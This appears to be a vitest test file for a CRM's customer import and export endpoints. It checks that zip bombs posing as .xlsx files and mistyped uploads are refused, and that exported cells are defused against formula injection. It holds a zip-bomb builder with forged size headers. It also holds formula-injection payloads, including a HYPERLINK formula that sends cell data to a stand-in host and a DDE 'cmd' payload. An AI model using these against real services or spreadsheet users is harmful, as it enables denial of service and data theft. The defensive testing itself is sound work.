import { constants, deflateRawSync } from "node:zlib";
import { customerImports } from "@crm/db";
import ExcelJS from "exceljs";
import Papa from "papaparse";
import { describe, expect, it } from "vitest";
import { createCustomer } from "../../../test/customers-fixtures.js";
import { clientsFor, type Inject, multipart, setupApp } from "../../../test/helper.js";
import { UPLOAD_MAX_BYTES } from "../../shared/spreadsheet-upload.js";

const { app, db } = await setupApp();
const [mgr1, gm] = await clientsFor(app, ["mgr1", "gm"]);

const upload = (as: Inject, name: string, content: string | Buffer) => {
  const body = multipart({ name, content });
  return as({
    method: "POST",
    url: "/api/v1/customers/imports",
    payload: body.payload,
    headers: body.headers,
  });
};
const imports = async () => (await db.db.select({ id: customerImports.id }).from(customerImports)).length;

interface ZipEntry {
  name: string;
  /** Raw deflate data (method 8). */
  data: Buffer;
  /** What the headers claim it inflates to. */
  declared: number;
}

/** A zip file by hand, so its headers can say anything (the CRC is not checked before refusing). */
function zip(entries: ZipEntry[]): Buffer {
  const locals: Buffer[] = [];
  const centrals: Buffer[] = [];
  let offset = 0;
  for (const e of entries) {
    const name = Buffer.from(e.name);
    const local = Buffer.alloc(30);
    local.writeUInt32LE(0x04034b50, 0);
    local.writeUInt16LE(20, 4);
    local.writeUInt16LE(8, 8);
    local.writeUInt32LE(e.data.length, 18);
    local.writeUInt32LE(e.declared, 22);
    local.writeUInt16LE(name.length, 26);
    const central = Buffer.alloc(46);
    central.writeUInt32LE(0x02014b50, 0);
    central.writeUInt16LE(20, 4);
    central.writeUInt16LE(20, 6);
    central.writeUInt16LE(8, 10);
    central.writeUInt32LE(e.data.length, 20);
    central.writeUInt32LE(e.declared, 24);
    central.writeUInt16LE(name.length, 28);
    central.writeUInt32LE(offset, 42);
    locals.push(local, name, e.data);
    centrals.push(central, name);
    offset += 30 + name.length + e.data.length;
  }
  const directory = Buffer.concat(centrals);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(entries.length, 8);
  end.writeUInt16LE(entries.length, 10);
  end.writeUInt32LE(directory.length, 12);
  end.writeUInt32LE(offset, 16);
  return Buffer.concat([...locals, directory, end]);
}

const small = (name: string, text: string): ZipEntry => {
  const data = deflateRawSync(Buffer.from(text));
  return { name, data, declared: text.length };
};

/**
 * A sheet XML that inflates to `mib` MiB of one repeated row: the deflate of 1 MiB of it, flushed
 * so the blocks stand alone, repeated, then a final empty block. Built in milliseconds.
 */
function bombSheet(mib: number): Buffer {
  const row = Buffer.alloc(1024 * 1024, '<row r="1"><c><v>0</v></c></row>');
  const block = deflateRawSync(row, { finishFlush: constants.Z_FULL_FLUSH });
  return Buffer.concat([...Array.from({ length: mib }, () => block), Buffer.from([0x03, 0x00])]);
}

const workbookParts = [
  small("[Content_Types].xml", '<?xml version="1.0"?><Types/>'),
  small("xl/workbook.xml", '<?xml version="1.0"?><workbook/>'),
];

describe("upload limits on imports", () => {
  it("refuses a zip bomb named .xlsx whose headers admit its size (2 GiB), before inflating anything", async () => {
    const before = await imports();
    const sheet = bombSheet(2048);
    expect(sheet.length).toBeLessThan(8 * 1024 * 1024);
    const res = await upload(
      mgr1,
      "customers.xlsx",
      zip([
        ...workbookParts,
        { name: "xl/worksheets/sheet1.xml", data: sheet, declared: 2048 * 1024 * 1024 },
      ]),
    );
    expect(res.statusCode).toBe(413);
    expect(res.headers["content-type"]).toMatch(/problem\+json/);
    expect(res.json()).toMatchObject({
      code: "payload_too_large",
      errors: [{ field: "file", code: "file_inflates_too_large" }],
    });
    expect(await imports()).toBe(before);
  });

  it("refuses a zip bomb whose headers lie (claiming 1 KB): it is inflated as a counted stream and stopped", async () => {
    const before = await imports();
    // 2 GiB behind a lie: stopped at the 256 MiB budget.
    const big = zip([
      ...workbookParts,
      { name: "xl/worksheets/sheet1.xml", data: bombSheet(2048), declared: 1024 },
    ]);
    // 64 MiB from about 170 KB: under the budget, stopped by the inflation ratio.
    const dense = zip([
      ...workbookParts,
      { name: "xl/worksheets/sheet1.xml", data: bombSheet(64), declared: 1024 },
    ]);
    for (const file of [big, dense]) {
      const res = await upload(mgr1, "customers.xlsx", file);
      expect(res.statusCode).toBe(413);
      expect(res.json().errors).toEqual([
        expect.objectContaining({ field: "file", code: "file_inflates_too_large" }),
      ]);
    }
    expect(await imports()).toBe(before);
  });

  it("refuses what is not the spreadsheet its name says: text or another zip as .xlsx, binary as .csv", async () => {
    const docx = zip([small("[Content_Types].xml", "<Types/>"), small("word/document.xml", "<w:document/>")]);
    const png = Buffer.from("89504e470d0a1a0a0000000d49484452", "hex");
    for (const [name, content] of [
      ["customers.xlsx", "客户名称,客户类别,省份,城市\n某公司,1,浙江省,杭州市\n"],
      ["customers.xlsx", docx],
      ["customers.xlsx", Buffer.concat([Buffer.from("PK\x03\x04"), Buffer.alloc(100, 7)])],
      ["customers.csv", png],
      ["customers.csv", zip(workbookParts)],
    ] as const) {
      const res = await upload(mgr1, name, content);
      expect(res.statusCode, name).toBe(400);
      expect(res.json().errors).toEqual([
        { field: "file", code: "import_file_type", message: "文件内容不是有效的 CSV 或 XLSX" },
      ]);
    }
  });

  it("refuses a file over the upload limit with 413 problem+json", async () => {
    const before = await imports();
    const res = await upload(mgr1, "customers.csv", Buffer.alloc(UPLOAD_MAX_BYTES + 1, "a"));
    expect(res.statusCode).toBe(413);
    expect(res.headers["content-type"]).toMatch(/problem\+json/);
    expect(res.json().code).toBe("payload_too_large");
    expect(await imports()).toBe(before);
  });
});

describe("formula injection in exports", () => {
  const evil = '=HYPERLINK("https://evil.example/?x="&A1,"点我")';

  /** Whether a text cell would run as a formula in a spreadsheet. */
  const live = (v: unknown) => typeof v === "string" && /^[=+\-@\t\r]/.test(v) && !/^-\d+(\.\d+)?$/.test(v);

  it("prefixes ' to a customer's text starting with = + - @ in CSV and in XLSX", async () => {
    await createCustomer(gm, { name: evil, address: "@SUM(1+1)" });
    await createCustomer(gm, { name: "减号公司", address: "-2+3+cmd|' /C calc'!A0" });
    const csv = await gm({ url: "/api/v1/customers/export?format=csv" });
    const rows = Papa.parse<string[]>(csv.body.replace(/^\uFEFF/, ""), { skipEmptyLines: true }).data;
    const row = rows.find((r) => r.includes(`'${evil}`));
    expect(row).toBeDefined();
    expect(row).toContain("'@SUM(1+1)");
    expect(rows.flat()).toContain("'-2+3+cmd|' /C calc'!A0");
    expect(rows.flat().filter(live)).toEqual([]);

    const xlsx = await gm({ url: "/api/v1/customers/export?format=xlsx" });
    const book = new ExcelJS.Workbook();
    await book.xlsx.load(xlsx.rawPayload as unknown as ArrayBuffer);
    const cells: ExcelJS.Cell[] = [];
    book.worksheets[0]!.eachRow((r) => r.eachCell((c) => cells.push(c)));
    expect(cells.map((c) => c.value)).toContain(`'${evil}`);
    expect(cells.filter((c) => c.type === ExcelJS.ValueType.Formula || live(c.value))).toEqual([]);
  });

  it("defuses the rejected rows sent back in an import's errors.csv", async () => {
    const file = `客户名称,客户类别,省份,城市\n=1+2,1,浙江省,不存在的城市\n`;
    const job = (await upload(mgr1, "bad.csv", file)).json();
    expect(job.errorRows).toBe(1);
    const errors = await mgr1({ url: `/api/v1/customers/imports/${job.id}/errors.csv` });
    const rows = Papa.parse<string[]>(errors.body.replace(/^\uFEFF/, ""), { skipEmptyLines: true }).data;
    expect(rows[1]).toContain("'=1+2");
    expect(rows.flat().filter(live)).toEqual([]);
  });
});
